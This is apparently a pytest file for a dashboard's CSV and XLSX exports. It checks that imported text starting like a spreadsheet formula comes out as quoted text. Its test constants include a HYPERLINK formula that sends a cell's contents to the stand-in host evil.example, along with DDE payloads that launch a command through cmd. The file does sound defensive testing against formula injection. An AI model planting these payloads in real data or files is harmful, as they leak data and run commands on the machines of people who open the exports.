"""Every CSV and XLSX the app hands out, built as the pages build them, from a database
where imported text starts like a formula: the cells come out as text (behind a quote in
CSV, string cells with the quote prefix in XLSX), numbers as numbers
(dashboard.domain.tableur)."""
import csv
import io
import zipfile

import openpyxl
import pandas as pd
import pytest
import sqlalchemy as sa

from dashboard import db
from dashboard.app.carte import exports as carte_exports
from dashboard.domain import identity, tableur
from dashboard.importer import report
from dashboard.reads import exports, qualite, urgences

FORMULE = '=HYPERLINK("http://evil.example/?"&A1,"Voir")'
EDIFICE = "@SUM(1+1)*cmd|' /C calc'!A0"
DEPLACE = "-2+3+cmd|' /C calc'!A0"


def _csv(data: bytes) -> list[dict]:
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))


def _no_formula_cell(data: bytes) -> None:
    for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"):
        assert not any(cell.startswith(tableur.DEBUTS_DE_FORMULE) for cell in row), row


@pytest.fixture(scope="module")
def piegee(fresh_database, demo_template) -> tuple[str, str]:
    """A demo copy where an urgent, flagged objet carries imported text starting like a formula."""
    url = fresh_database(demo_template)
    with sa.create_engine(url, poolclass=sa.pool.NullPool).begin() as conn:
        ref = conn.execute(sa.text("SELECT objet_ref FROM recensement_courant WHERE urgence = 'prioritaire' "
                                   "ORDER BY objet_ref LIMIT 1")).scalar_one()
        conn.execute(sa.text("UPDATE objet SET titre = :t, edifice_nom = :e, deplacement = :d, edifice_id = NULL, "
                             "anomalies = ARRAY['deplace'] WHERE ref = :r"),
                     {"t": FORMULE, "e": EDIFICE, "d": DEPLACE, "r": ref})
    return url, ref


def test_urgences_csv_and_xlsx(piegee):
    url, ref = piegee
    with db.engine_for(url).connect() as conn:
        table = urgences.table(conn, identity.NATIONAL, "admin", urgences.Filtres(), None)
    rows = _csv(urgences.export_csv(table))
    row = next(r for r in rows if r["REF"] == ref)
    assert row["Objet"] == "'" + FORMULE
    _no_formula_cell(urgences.export_csv(table))

    data = urgences.export_xlsx(table)
    sheet = openpyxl.load_workbook(io.BytesIO(data))["Cas urgents"]
    header = [c.value for c in sheet[1]]
    cell = next(r[header.index("Objet")] for r in sheet.iter_rows(min_row=2) if r[header.index("REF")].value == ref)
    assert cell.value == FORMULE and cell.data_type in ("s", "inlineStr") and cell.quotePrefix
    xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml


def test_pop_export_csv(piegee):
    url, ref = piegee
    data = exports.download(url, identity.NATIONAL, False, "csv")      # what the download button serves
    row = next(r for r in _csv(data) if r["REF"] == ref)
    assert (row["TICO"], row["EDIF"], row["DEPL"]) == ("'" + FORMULE, "'" + EDIFICE, "'" + DEPLACE)
    _no_formula_cell(data)


def test_qualite_downloads(piegee):
    url, ref = piegee
    with db.engine_for(url).connect() as conn:
        flagged = qualite.objets_signales(conn, identity.NATIONAL, "deplace")
        conn.execute(sa.text("INSERT INTO chargement (id, nature, source, fin, rapport) "
                             "VALUES (999, 'palissy', 'x', now(), '{}')"))
        conn.execute(sa.text("INSERT INTO import_rejet (chargement_id, ligne, ref, categorie, raison, detail) "
                             "VALUES (999, 2, :ref, 'rejete', 'ref_invalide', :d)"), {"ref": "=1+1", "d": FORMULE})
        rejets = qualite.rejets(conn, "admin", 999)
        conn.rollback()
    row = next(r for r in _csv(qualite.csv_bytes(flagged)) if r["ref"] == ref)
    assert row["titre"] == "'" + FORMULE and row["deplacement"] == "'" + DEPLACE
    rejected = _csv(qualite.csv_bytes(rejets))
    assert (rejected[0]["ref"], rejected[0]["detail"]) == ("'=1+1", "'" + FORMULE)


def test_carte_csv():
    table = pd.DataFrame({"Code INSEE": ["62041"], "Commune": ["=cmd|' /C calc'!A0"], "Objets": [-3],
                          "Part recensée (%)": [-12.5]})
    rows = _csv(carte_exports.csv_bytes(table))
    assert rows == [{"Code INSEE": "62041", "Commune": "'=cmd|' /C calc'!A0", "Objets": "-3",
                     "Part recensée (%)": "-12,5"}]


def test_import_rejects_file(tmp_path):
    outcome = report.Outcome()
    outcome.reject(2, "+33123", "ref_invalide", FORMULE)
    outcome.exclude(3, "PM62000001", "notice_non_pm", "\t=1")
    rejects = report.write({"rows": 2}, outcome, tmp_path / "r.json")
    with rejects.open(encoding="utf-8", newline="") as f:          # its own format: no BOM, same columns
        rows = list(csv.DictReader(f, delimiter=";"))
    assert list(rows[0]) == list(report.REJECTS_HEADER)
    assert (rows[0]["ref"], rows[0]["detail"]) == ("'+33123", "'" + FORMULE)
    assert rows[1]["detail"] == "'\t=1"
